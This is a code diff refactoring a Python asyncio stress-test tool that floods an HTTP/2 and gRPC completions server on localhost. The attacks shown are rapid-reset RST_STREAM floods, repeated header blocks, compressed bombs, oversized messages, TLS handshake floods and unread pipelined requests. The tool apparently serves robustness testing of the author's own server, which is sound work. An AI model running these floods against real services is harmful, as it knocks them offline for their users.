@@ -55,11 +55,8 @@ class Target:
 Attack = Callable[[Target], Awaitable[None]]
 ATTACKS: dict[str, Attack] = {}
 TLS_ATTACKS: dict[str, Attack] = {}  # on what comes before TLS
-POST = (
-    b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\nauthorization: "
-    + KEY
-    + b"\r\n"
-)
+POST = b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
+POST += b"authorization: " + KEY + b"\r\n"
 HEAD = POST + b"content-length: %d\r\n\r\n"
 
 
@@ -73,14 +70,12 @@ def tls_context(protocol: str) -> ssl.SSLContext:
     return made
 
 
-def attack(function: Attack) -> Attack:
-    ATTACKS[function.__name__.replace("_", "-")] = function
+def attack(function: Attack, attacks: dict[str, Attack] = ATTACKS) -> Attack:
+    attacks[function.__name__.replace("_", "-")] = function
     return function
 
 
-def tls_attack(function: Attack) -> Attack:
-    TLS_ATTACKS[function.__name__.replace("_", "-")] = function
-    return function
+tls_attack = partial(attack, attacks=TLS_ATTACKS)
 
 
 @asynccontextmanager
@@ -136,25 +131,42 @@ async def held(target: Target, names: str, first: bytes, *, plain: bool = False)
     await asyncio.gather(*(hold(addresses[number % len(addresses)]) for number in range(target.scale)))
 
 
-async def streamed(target: Target, connections: int, next_part: Callable[[int], bytes], first: bytes = b"") -> None:
-    """Connections over HTTP/2 that send part after part, as fast as they are read."""
+async def sent(
+    target: Target,
+    connections: int,
+    part: Callable[[int], bytes],
+    *,
+    frames: bytes | None = None,
+    pause_s: float = 0.0,
+    reads: bool = True,
+) -> None:
+    """Connections that send part after part, as fast as they are read: so many, or as many as the scale says.
 
-    async def flood() -> None:
+    Over HTTP; or over HTTP/2, where `frames` come before all parts.
+    """
+    gate = asyncio.Semaphore(100)
+    address, first = (target.http, b"") if frames is None else (target.grpc, http2.hello() + frames)
+
+    async def send() -> None:
         while target.going_on:
             with suppress(*GONE):
-                async with connected(target, target.grpc, http2.hello() + first) as (reader, writer):
-                    number, draining = 0, asyncio.create_task(drained(reader))
-                    try:
-                        while target.going_on and not draining.done():
-                            writer.write(next_part(number))
-                            await asyncio.wait_for(writer.drain(), 5)
-                            number += 1
-                            target.count("parts")
-                    finally:
-                        draining.cancel()
-            await asyncio.sleep(0.02)
+                async with gate:
+                    context = connected(target, address, first, small=not reads)
+                    reader, writer = await context.__aenter__()
+                draining, number = asyncio.create_task(drained(reader) if reads else asyncio.sleep(1e6)), 0
+                try:
+                    while target.going_on and not draining.done() and not writer.is_closing():
+                        writer.write(part(number))
+                        await asyncio.wait_for(writer.drain(), 5)
+                        number += 1
+                        target.count("parts")
+                        await asyncio.sleep(pause_s)
+                finally:
+                    draining.cancel()
+                    await context.__aexit__(None, None, None)
+            await asyncio.sleep(0.05)
 
-    await asyncio.gather(*(flood() for _ in range(connections)))
+    await asyncio.gather(*(send() for _ in range(connections or target.scale)))
 
 
 async def drained(reader: asyncio.StreamReader) -> None:
@@ -165,33 +177,29 @@ async def drained(reader: asyncio.StreamReader) -> None:
 # TLS
 
 
+async def talk(target: Target, address: tuple[str, int], words: bytes = b"") -> None:
+    """Connections, one after the other: with these words in place of a handshake, or with a handshake alone."""
+    while target.going_on:
+        with suppress(*GONE):
+            async with connected(target, address, words, plain=bool(words)) as (reader, _):
+                target.count("handshakes", int(not words))
+                if words:
+                    await asyncio.wait_for(drained(reader), 5)
+        await asyncio.sleep(0.01)
+
+
 @tls_attack
 async def handshakes(target: Target) -> None:
     """Whole handshakes, one after the other, on 32 connections at a time."""
-
-    async def shake(address: tuple[str, int]) -> None:
-        while target.going_on:
-            with suppress(*GONE):
-                async with connected(target, address):
-                    target.count("handshakes")
-            await asyncio.sleep(0.01)
-
-    await asyncio.gather(*(shake(address) for address in (target.grpc, target.http) * 16))
+    await asyncio.gather(*(talk(target, address) for address in (target.grpc, target.http) * 16))
 
 
 @tls_attack
 async def plain_words(target: Target) -> None:
     """What is no TLS: requests in plain words, and noise."""
-
-    async def talk(address: tuple[str, int], words: bytes) -> None:
-        while target.going_on:
-            with suppress(*GONE):
-                async with connected(target, address, words, plain=True) as (reader, _):
-                    await asyncio.wait_for(drained(reader), 5)
-            await asyncio.sleep(0.01)
-
     noise = (HEAD % 2 + b"{}", http2.hello(), os.urandom(CHUNK), b"\x16\x03\x01" + os.urandom(CHUNK))
-    await asyncio.gather(*(talk(address, words) for address in (target.grpc, target.http) for words in noise * 4))
+    addresses = (target.grpc, target.http)
+    await asyncio.gather(*(talk(target, address, words) for address in addresses for words in noise * 4))
 
 
 # Frames
@@ -209,7 +217,7 @@ async def rapid_reset(target: Target) -> None:
             found.append(http2.frame(http2.RST_STREAM, http2.CANCEL, stream=stream))
         return b"".join(found)
 
-    await streamed(target, 8, part)
+    await sent(target, 8, part, frames=b"")
 
 
 @attack
@@ -221,7 +229,7 @@ async def repeated_headers(target: Target) -> None:
         block = http2.call_headers(GENERATE) + (large if number == 0 else b"") + b"\xbe" * 10_000
         return http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=2 * number + 1)
 
-    await streamed(target, 8, part)
+    await sent(target, 8, part, frames=b"")
 
 
 # Messages
@@ -239,7 +247,7 @@ async def zipped_bombs(target: Target) -> None:
         frames += [http2.frame(http2.DATA, data[i : i + CHUNK], stream=stream) for i in range(0, len(data), CHUNK)]
         return b"".join(frames) + http2.frame(http2.DATA, flags=http2.END_STREAM, stream=stream)
 
-    await streamed(target, 4, part)
+    await sent(target, 4, part, frames=b"")
 
 
 @attack
@@ -256,7 +264,7 @@ async def long_messages(target: Target) -> None:
             begin += http2.frame(http2.DATA, http2.message(b"", length=length), stream=stream)
         return begin + http2.frame(http2.DATA, b"\x1a" * CHUNK, stream=stream)
 
-    await streamed(target, 8, part)
+    await sent(target, 8, part, frames=b"")
 
 
 # Requests
@@ -278,37 +286,6 @@ async def unread_calls(target: Target) -> None:
     count, target.scale = target.scale, max(4, target.scale // 50)
     await held(target, "grpc", http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls)
     target.scale = count
-
-
-async def sent(
-    target: Target, connections: int, part: Callable[[int], bytes], *, pause_s: float = 0.0, reads: bool = True
-) -> None:
-    """Connections over HTTP that send part after part: so many, or as many as the scale says."""
-    gate = asyncio.Semaphore(100)
-
-    async def send() -> None:
-        while target.going_on:
-            with suppress(*GONE):
-                await gate.acquire()
-                try:
-                    context = connected(target, target.http, small=not reads)
-                    reader, writer = await context.__aenter__()
-                finally:
-                    gate.release()
-                draining, number = asyncio.create_task(drained(reader) if reads else asyncio.sleep(1e6)), 0
-                try:
-                    while target.going_on and not draining.done() and not writer.is_closing():
-                        writer.write(part(number))
-                        await asyncio.wait_for(writer.drain(), 5)
-                        number += 1
-                        target.count("parts")
-                        await asyncio.sleep(pause_s)
-                finally:
-                    draining.cancel()
-                    await context.__aexit__(None, None, None)
-            await asyncio.sleep(0.05)
-
-    await asyncio.gather(*(send() for _ in range(connections or target.scale)))
 
 
 @attack
@@ -384,17 +361,12 @@ PARTS: dict[str, tuple[Callable[[int], bytes], int, float, bool]] = {
     "chunks": (after(CHUNKED, (b"1;" + b"n" * 2000 + b"\r\nx\r\n") * 30), 16, 0.0, True),  # of a byte, with long names
     "unread-answers": (after(STREAMED, b""), 0, 1.0, False),
     # Thousands of requests on a connection.
-    "unread-pages": (
-        lambda _: (POST.replace(b"POST /v1/completions", b"GET /v1/models") + b"\r\n") * 500,
-        32,
-        0.0,
-        False,
-    ),
+    "unread-pages": (lambda _: (MODELS + b"\r\n") * 500, 32, 0.0, False),
 }
 for _name, (_names, _first) in HELD.items():
     ATTACKS[_name] = partial(held, names=_names, first=_first)
 for _name, (_part, _first) in FRAMES.items():
-    ATTACKS[_name] = partial(streamed, connections=8, next_part=_part, first=_first)
+    ATTACKS[_name] = partial(sent, connections=8, part=_part, frames=_first)
 for _name, (_part, _connections, _pause_s, _reads) in PARTS.items():
     ATTACKS[_name] = partial(sent, connections=_connections, part=_part, pause_s=_pause_s, reads=_reads)
 for _name, _first in PLAIN.items():
